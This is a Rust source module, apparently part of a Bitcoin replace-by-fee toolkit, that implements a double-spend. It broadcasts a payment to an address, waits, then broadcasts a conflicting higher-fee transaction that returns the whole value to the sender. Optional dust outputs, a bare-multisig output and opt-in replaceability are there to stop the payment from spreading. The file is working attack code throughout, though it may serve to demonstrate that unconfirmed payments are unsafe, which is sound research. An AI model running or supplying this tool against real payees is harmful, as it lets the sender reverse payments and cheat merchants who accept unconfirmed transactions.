//! Pay an address, wait, then broadcast a conflicting transaction that
//! redirects the full value back to us at a higher fee rate.

use crate::engine::{converge, Draft};
use crate::error::Error;
use crate::node_client::NodeEndpoint;
use crate::pool::UnspentPool;
use rbf_tx::{Script, Transaction, TxOut};
use rbf_types::params::{SEQUENCE_FINAL, SEQUENCE_OPT_IN_RBF};
use rbf_types::{Amount, FeeRate, Txid};
use std::time::Duration;

/// Well-known key used for the optional bare-multisig output; the second
/// slot is garbage, so the output is still spendable by whoever holds
/// this key while being unattractive to relay.
const MULTISIG_PUBKEY: [u8; 33] = [
    0x03, 0x78, 0xd4, 0x30, 0x27, 0x4f, 0x8c, 0x5e, 0xc1, 0x32, 0x13, 0x38, 0x15, 0x1e, 0x9f,
    0x27, 0xf4, 0xc6, 0x76, 0xa0, 0x08, 0xbd, 0xf8, 0x63, 0x8d, 0x07, 0xc0, 0xb6, 0xbe, 0x9a,
    0xb3, 0x5c, 0x71,
];

const OP_RETURN_MARKER: &[u8] = b"\x00unsuccessful double-spend attempt\x00";

#[derive(Debug, Clone)]
pub struct DoubleSpendOptions {
    pub address: String,
    pub amount: Amount,
    /// Wait between payment and double-spend broadcasts.
    pub delay: Duration,
    pub dust: Amount,
    /// Fee rate of the payment transaction.
    pub fee1: FeeRate,
    /// Fee rate of the conflicting transaction.
    pub fee2: FeeRate,
    /// Add an OP_RETURN marker output to the payment.
    pub op_return: bool,
    /// Add a bare-multisig output to discourage propagation.
    pub multisig: bool,
    /// Signal BIP125 opt-in replaceability on the payment's inputs.
    pub opt_in_rbf: bool,
    /// Pay dust to these addresses to further discourage propagation.
    pub bad_addrs: Vec<String>,
    pub dry_run: bool,
}

#[derive(Debug)]
pub struct DoubleSpendOutcome {
    pub payment: Transaction,
    pub payment_txid: Option<Txid>,
    pub replacement: Transaction,
    pub replacement_txid: Option<Txid>,
}

pub async fn run(
    endpoint: &NodeEndpoint,
    opts: &DoubleSpendOptions,
) -> Result<DoubleSpendOutcome, Error> {
    let client = endpoint.connect()?;

    // Change output always sits at index 0 so the replacement phase can
    // keep exactly the outputs it wants by truncating.
    let mut tx = Transaction::new();
    tx.outputs
        .push(TxOut::new(Amount::ZERO, client.new_change_script().await?));

    let payment_script = client.resolve_address(&opts.address).await?.script_pubkey;
    tx.outputs.push(TxOut::new(opts.amount, payment_script));

    if opts.op_return {
        tx.outputs.push(TxOut::new(
            Amount::ZERO,
            Script::op_return_data(OP_RETURN_MARKER),
        ));
    }
    if opts.multisig {
        tx.outputs.push(TxOut::new(
            opts.dust,
            Script::bare_multisig_1of2(&MULTISIG_PUBKEY),
        ));
    }
    for bad_addr in &opts.bad_addrs {
        let script = client.resolve_address(bad_addr).await?.script_pubkey;
        tx.outputs.push(TxOut::new(opts.dust, script));
    }

    let sequence = if opts.opt_in_rbf {
        SEQUENCE_OPT_IN_RBF
    } else {
        SEQUENCE_FINAL
    };

    let mut pool = UnspentPool::new(client.list_unspent(1).await?);
    let mut draft = Draft::new(tx, 0, Amount::ZERO)?;
    converge(&mut draft, &mut pool, opts.fee1, opts.dust, sequence, &client).await?;

    let signed = client.sign_transaction(&draft.tx, None).await?;
    if !signed.complete {
        return Err(Error::SigningIncomplete);
    }
    let payment = signed.tx;
    tracing::info!(
        size = payment.serialized_size(),
        fee = draft.fee(),
        "payment transaction built"
    );

    let payment_txid = if opts.dry_run {
        None
    } else {
        let txid = client.broadcast(&payment).await?;
        tracing::info!(%txid, "sent payment tx");
        tracing::info!("sleeping for {}s", opts.delay.as_secs());
        tokio::time::sleep(opts.delay).await;
        Some(txid)
    };

    // The old connection may have been closed while we slept.
    let client = endpoint.connect()?;

    // Conflicting spend: drop everything but the change output and
    // redirect the whole input value to it.
    let mut tx = payment.clone();
    tx.outputs.truncate(1);
    tx.outputs[0].value = draft.value_in;
    let mut draft = Draft::new(tx, 0, draft.value_in)?;

    converge(&mut draft, &mut pool, opts.fee2, opts.dust, sequence, &client).await?;

    let signed = client.sign_transaction(&draft.tx, None).await?;
    if !signed.complete {
        return Err(Error::SigningIncomplete);
    }
    let replacement = signed.tx;
    tracing::info!(
        size = replacement.serialized_size(),
        fee = draft.fee(),
        "double-spend transaction built"
    );

    let replacement_txid = if opts.dry_run {
        None
    } else {
        let txid = client.broadcast(&replacement).await?;
        tracing::info!(%txid, "sent double-spend tx");
        Some(txid)
    };

    Ok(DoubleSpendOutcome {
        payment,
        payment_txid,
        replacement,
        replacement_txid,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_multisig_key_is_valid_compressed_point_prefix() {
        assert!(MULTISIG_PUBKEY[0] == 0x02 || MULTISIG_PUBKEY[0] == 0x03);
    }

    #[test]
    fn test_marker_script_shape() {
        let script = Script::op_return_data(OP_RETURN_MARKER);
        assert!(script.is_op_return());
        // marker bytes + OP_RETURN + push opcode
        assert_eq!(script.len(), OP_RETURN_MARKER.len() + 2);
    }
}
